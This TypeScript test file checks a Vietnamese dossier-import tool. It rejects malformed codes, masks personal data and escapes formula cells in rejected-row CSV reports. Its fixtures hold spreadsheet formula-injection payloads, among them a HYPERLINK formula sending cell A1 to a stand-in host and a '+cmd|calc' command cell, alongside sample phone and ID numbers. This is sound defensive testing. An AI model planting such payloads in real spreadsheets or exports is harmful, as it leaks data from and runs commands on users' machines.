/**
 * What an import lets through and what its reports echo: dossier codes must look like
 * codes, free-text cells must carry no personal data, and the rejected-rows CSV never
 * holds a cell a spreadsheet would run as a formula.
 */
import { readFileSync } from 'node:fs';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Store } from '../../src/data/store.js';
import { importDossiers } from '../../src/import/dossiers/import-dossiers.js';
import { importUnits } from '../../src/import/units/import-units.js';
import { mayHoldPersonalData } from '../../src/import/personal-cells.js';
import { csvCell } from '../../src/import/rejections.js';
import { findPersonalData } from '../../src/privacy/personal-data.js';
import { summaryLines } from '../../src/import/report.js';
import { TEST_DIALECT } from '../helpers/store.js';
import { dossierCsv, IMPORT_NOW, storeText, storeWithUnits, tempDir, type DossierCells } from './fixtures.js';

const tmp = tempDir();
afterAll(() => tmp.cleanup());

let store: Store & { dispose(): Promise<void> };
beforeEach(async () => {
  store = await storeWithUnits();
});
afterEach(async () => {
  await store.dispose();
});

const codes = async () => (await store.sql.all<{ code: string }>('SELECT code FROM dossier ORDER BY code')).map((r) => r.code);

/** The cells of the rejected-rows CSV, naively split (the tests' values hold no quotes but where said). */
function reportRows(path: string): string[] {
  return readFileSync(path, 'utf8').replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);
}

describe(`dossier codes and formula cells (${TEST_DIALECT})`, () => {
  it('when a dossier code is a formula or not shaped like a code, then the row is rejected with the reason and nothing is stored', async () => {
    const rows: DossierCells[] = [
      { code: '000.00.12.H44-250702-0001' },
      { code: 'G22.10_250701-0002' },
      { code: '=HYPERLINK("http://x.example/?"&A1,"Bấm")' },
      { code: '+1' },
      { code: '-2' },
      { code: '@SUM(A1)' },
      { code: 'H25/1' },
      { code: 'X'.repeat(61) },
    ];
    const path = tmp.file('codes.csv', dossierCsv(rows));
    const r = await importDossiers(store, path, { now: IMPORT_NOW });
    expect(r).toMatchObject({ status: 'done', inserted: 2, rejected: 6 });
    expect(await codes()).toEqual(['000.00.12.H44-250702-0001', 'G22.10_250701-0002']);
    for (const x of r.rejections) {
      expect(x.column).toBe('MaHoSo');
      expect(x.reason).toMatch(/Mã hồ sơ .*chỉ gồm chữ cái, chữ số và các dấu \. - _/);
    }
  });

  it('when rejected cells start with = + - @, a tab or a CR, then the rejected-rows CSV writes them after a quote so Excel shows them as text', async () => {
    const rows: DossierCells[] = [
      { code: '=HYPERLINK("http://x.example/?"&A1,"Bấm")' },
      { code: 'R-1', sectorName: '+cmd|calc', status: '42' },
      { code: 'R-2', sectorName: '-5', status: '42' },
      { code: 'R-3', sectorName: '@foo', status: '42' },
    ];
    const path = tmp.file('formula.csv', dossierCsv(rows));
    const r = await importDossiers(store, path, { now: IMPORT_NOW });
    expect(r.rejected).toBe(4);
    const text = readFileSync(r.rejectedCsv!, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""Bấm"")"`);
    for (const cell of ["'+cmd|calc", "'-5", "'@foo"]) expect(text).toContain(cell);
    // No cell of the report starts with a formula character.
    const cells = reportRows(r.rejectedCsv!).flatMap((l) => l.split(','));
    for (const c of cells) expect(c.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    // Cells are trimmed when read; a tab or CR first can still reach the report from other importers.
    expect(csvCell('\tTab')).toBe(`"'\tTab"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('Hộ tịch')).toBe('Hộ tịch');
  });
});

describe(`personal data in recognised columns (${TEST_DIALECT})`, () => {
  const SECRETS = ['Quách', 'Xuyến', '0912345671', '0912 345 678', '345.678', '001 203 004 567', 'xuyen@example.com'];

  it('when a sector, unit or code cell carries a name, phone, ID number or e-mail, then the row is rejected with the field named and the value masked everywhere', async () => {
    const csv = [
      'MaHoSo,MaDonVi,TenDonVi,MaLinhVuc,TenLinhVuc,KenhThucHien,NgayTiepNhan,TrangThaiHoSo',
      'OK-1,05293,,HT,Hộ tịch,2,02/07/2025 08:30,4',
      'PD-1,05293,,CP,Cấp phép - bà Quách Thị Xuyến 0912345671,2,02/07/2025 08:30,4',
      'PD-2,,Thượng Cốc 0912 345 678,HT,Hộ tịch,2,02/07/2025 08:30,4',
      '0912.345.678,05293,,HT,Hộ tịch,2,02/07/2025 08:30,4',
      'PD-4,05293,,001 203 004 567,Hộ tịch,2,02/07/2025 08:30,4',
      'PD-5,05293,,HT,Hộ tịch xuyen@example.com,2,02/07/2025 08:30,4',
    ].join('\r\n');
    const path = tmp.file('personal.csv', csv);
    const r = await importDossiers(store, path, { now: IMPORT_NOW });
    expect(r).toMatchObject({ status: 'done', inserted: 1, rejected: 5 });
    expect(await codes()).toEqual(['OK-1']);
    expect(r.rejections.map((x) => [x.line, x.column])).toEqual([
      [3, 'TenLinhVuc'],
      [4, 'TenDonVi'],
      [5, 'MaHoSo'],
      [6, 'MaLinhVuc'],
      [7, 'TenLinhVuc'],
    ]);
    for (const x of r.rejections) expect(x.reason).toMatch(/dữ liệu cá nhân/);
    expect(r.rejections[0]!.reason).toContain('bà Q•••• T•• X••••');
    expect(r.rejections[0]!.values.TenLinhVuc).toBe('Cấp phép - bà Q•••• T•• X•••• 09••••••71');
    const terminal = summaryLines(r).join('\n');
    const report = readFileSync(r.rejectedCsv!, 'utf8');
    const stored = await storeText(store);
    for (const s of SECRETS) {
      expect(terminal).not.toContain(s);
      expect(report).not.toContain(s);
      expect(stored).not.toContain(s);
    }
  });

  it('when a unit is really named like a person ("Xã Anh Sơn Đông"), then its dossiers and its unit-list row are imported', async () => {
    const units = [
      'code,name,type,province_code,province_name,merged_from_codes',
      '17365,Anh Sơn Đông,xã,40,Nghệ An,17359:Xã Tào Sơn; 17362:Xã Vĩnh Sơn; 17365:Xã Lạng Sơn',
    ].join('\n');
    const u = await importUnits(store, tmp.file('anh-son.csv', units), { now: IMPORT_NOW });
    expect(u).toMatchObject({ status: 'done', inserted: 1, rejected: 0 });
    const csv = ['MaHoSo,TenDonVi,TenTinh,KenhThucHien,NgayTiepNhan,TrangThaiHoSo', 'AS-1,Xã Anh Sơn Đông,Nghệ An,2,02/07/2025 08:30,4'].join('\r\n');
    const r = await importDossiers(store, tmp.file('anh-son-ho-so.csv', csv), { now: IMPORT_NOW });
    expect(r.rejections).toEqual([]);
    expect(await codes()).toEqual(['AS-1']);
  });

  it('when a cell holds personal data, then the cheap pre-check never skips it; cells without nine digits, a space or an @ are skipped', () => {
    for (const t of ['0912345678', '0912 345 678', '0912.345.678', '(+84) 912 345 678', '001.203.004.567', '123456789', 'a@b.vn', 'bà Quách Thị Xuyến', 'Ông\u00a0Nguyễn Văn Bình']) {
      expect(findPersonalData(t).length, t).toBeGreaterThan(0);
      expect(mayHoldPersonalData(t), t).toBe(true);
    }
    for (const t of ['LV1', '05293', 'H25.1-0001', 'Hộ_tịch', '28/07/2025']) expect(mayHoldPersonalData(t), t).toBe(false);
  });
});
